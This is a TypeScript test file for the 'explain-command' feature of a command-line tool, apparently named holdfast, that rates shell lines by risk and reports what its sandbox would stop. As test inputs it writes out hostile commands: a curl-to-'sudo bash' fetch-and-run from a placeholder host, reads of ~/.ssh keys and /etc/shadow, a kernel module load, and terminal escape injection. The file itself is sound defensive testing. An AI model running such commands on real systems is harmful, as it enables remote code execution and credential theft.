// SPDX-License-Identifier: Apache-2.0
import { Readable } from 'node:stream';
import { expect, test } from 'vitest';
import { pathsUnder } from '../effects/paths.ts';
import type { Io } from './io.ts';
import { runCommand } from './run-command.ts';
import { screenOn } from './screen.ts';

/** Where no machine is: it needs none. */
async function explain(words: readonly string[], stdin = ''): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const io: Io = {
    screen: screenOn({ out: (text) => (out += text), err: (text) => (err += text) }, { out: false, err: false }),
    stdin: Readable.from([stdin]),
    raw: { write: async () => undefined, inputIsTerminal: false, outputIsTerminal: true },
    paths: pathsUnder('/nonexistent'),
    root: '/nonexistent',
    uid: 4_711,
    login: 'alice',
    stop: new AbortController().signal,
  };
  return { code: await runCommand(io, ['explain-command', ...words]), out, err };
}

test('what would run says so, and ends with 0', async () => {
  expect(await explain(['git status'])).toEqual({ code: 0, out: 'GREEN: would run; nothing in it is a risk by itself\n', err: '' });
  expect((await explain(['uname -a'])).code).toBe(0);
});

test('each reason stands below its piece of the line, the worst first, and then what the sandbox does', async () => {
  const { code, out } = await explain(['curl https://x.example/i | sudo bash']);
  expect(code).toBe(1);
  expect(out.split('\n')).toEqual([
    'RED (fetch-and-run): a person would be asked',
    '  curl https://x.example/i | sudo bash',
    '                                  ^^^^',
    '    red: runs what was fetched (fetch-and-run)',
    '  curl https://x.example/i | sudo bash',
    '                             ^^^^^^^^^',
    '    yellow: asks for the rights of another user (asks-for-root)',
    expect.stringMatching(/^In a call the sandbox would stop a part of it: a call has no network but /),
    '',
  ]);
});

test('nobody need be asked about what cannot succeed', async () => {
  expect((await explain(['insmod x.ko'])).out).toContain('RED (kernel): for a person to decide, but nobody need be asked: it cannot succeed in a call\n');
  expect((await explain(['insmod x.ko; cat ~/.ssh/id_x'])).out).toContain(': a person would be asked\n');
});

test('the row that is meant, of a script on standard input, with marks as wide as what is shown', async () => {
  const { out } = await explain(['-'], "echo a\ncat 'é' ~/.ssh/id_x\necho b\n");
  expect(out).toContain("  cat '\\xe9' ~/.ssh/id_x\n             ^^^^^^^^^^^\n");
  expect(out).not.toContain('echo');
});

test('what could act on the terminal is shown escaped (B18)', async () => {
  const { code, out } = await explain(['ls \u001b[2J\u202e']);
  expect(code).toBe(1);
  expect(out).toContain('CRITICAL (unreadable): would be refused\n  ls \\x1b[2J\\u{202e}\n     ^^^^\n');
});

test('a long line is shown around what is meant', async () => {
  const { out } = await explain([`echo ${'x '.repeat(400)}; cat /etc/shadow`]);
  for (const row of out.split('\n').slice(1, 3)) expect(row.length).toBeLessThan(110);
  expect(out).toContain('cat /etc/shadow\n');
});

test('--json is the verdict with what the sandbox holds; --allow is a list (R30)', async () => {
  const { code, out } = await explain(['git x; rm y', '--allow', 'git, npm', '--json']);
  expect(code).toBe(1);
  expect(JSON.parse(out)).toMatchObject({
    risk: 'critical',
    class: 'unlisted',
    reasons: [{ rule: 'unlisted', span: { from: 7, to: 9 } }],
    sandbox: [{ class: 'unlisted', held: 'partly' }],
  });
  expect((await explain(['git x; npm y', '--allow', 'git, npm'])).code).toBe(0);
});

test.each([
  [[], 'LINE is missing; see: holdfast explain-command --help'],
  [[' '], 'LINE is empty; see: holdfast explain-command --help'],
  [['ls', '-l'], 'unknown option -l; see: holdfast explain-command --help'],
  [['ls', 'x'], '"x" is one word too many; see: holdfast explain-command --help'],
])('%j: exit 64 and the reason', async (words, error) => {
  expect(await explain(words)).toEqual({ code: 64, out: '', err: `holdfast: ${error}\n` });
});
